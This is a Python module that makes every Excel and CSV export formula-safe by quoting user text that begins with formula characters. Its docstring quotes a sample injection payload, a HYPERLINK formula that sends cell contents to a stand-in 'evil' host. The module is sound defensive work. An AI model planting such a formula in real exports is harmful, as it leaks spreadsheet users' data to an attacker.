"""The one writer for every Excel and CSV export: what a user typed is always text, never a formula.

Excel and LibreOffice run a cell that starts with = + - @ (and, via DDE, one that starts with a
tab or carriage return) as a formula, so a project or contact name such as
=HYPERLINK("http://evil/?"&C5, "点击") would run on a clerk's machine. OWASP's CSV-injection rule:
prefix such text with a single quote. Real numbers (ranks, scores, counts) stay numeric cells.
Every export builds its rows through `cells()`; tests/security/test_formula_injection.py downloads
every export URL with hostile values and fails on any formula.
"""

import csv
import datetime
import io
from decimal import Decimal

from openpyxl.cell import Cell, WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBERS = (int, float, Decimal)


def text(value):
    """`value` as text that no spreadsheet program evaluates."""
    s = "" if value is None else str(value)
    return "'" + s if s.startswith(FORMULA_STARTS) else s


def cell(value):
    """A value ready for a cell: numbers, dates and empty cells as they are, everything else as safe text.
    A styled openpyxl cell (see styled()) keeps its style and gets its own value made safe."""
    if isinstance(value, Cell):
        value.value = cell(value.value)
        return value
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, NUMBERS + (datetime.date, datetime.time)):
        return value
    return text(value)


def cells(values):
    return [cell(v) for v in values]


class SafeSheet:
    """A worksheet whose append() neutralises every value; wraps a normal or a write-only sheet."""

    def __init__(self, ws):
        self.ws = ws

    def append(self, values):
        self.ws.append(cells(values))

    def __getattr__(self, name):
        return getattr(self.ws, name)

    def __setattr__(self, name, value):  # ws.print_title_rows = ... must reach the sheet, not this wrapper
        if name == "ws":
            super().__setattr__(name, value)
        else:
            setattr(self.ws, name, value)


def styled(sheet, value, **style):
    """A cell of a write-only sheet with a style (font=, alignment=, border=...) and a safe value."""
    c = WriteOnlyCell(sheet.ws if isinstance(sheet, SafeSheet) else sheet, value=cell(value))
    for name, v in style.items():
        setattr(c, name, v)
    return c


def workbook():
    """A write-only workbook (rows stream out with constant memory) and a function adding safe sheets."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    return wb, lambda title: SafeSheet(wb.create_sheet(title))


def save(wb):
    """The workbook as bytes: only for small, bounded sheets built in a request (a unit's list)."""
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def save_to(wb, out):
    """Write the workbook into an open binary file (a worker's temporary file): nothing is held in memory."""
    wb.save(out)


def csv_to(out, header, rows):
    """Write a CSV export row by row into an open binary file (a worker's temporary file), with the BOM
    Excel needs to read UTF-8; returns the number of rows written (the header aside)."""
    text = io.TextIOWrapper(out, encoding="utf-8", newline="", write_through=True)
    try:
        text.write("\ufeff")
        writer = csv.writer(text)
        writer.writerow(cells(header))
        n = 0
        for row in rows:
            writer.writerow(["" if v is None else v for v in cells(row)])
            n += 1
        text.flush()
    finally:
        text.detach()  # the caller owns `out`: closing the wrapper must not close it
    return n
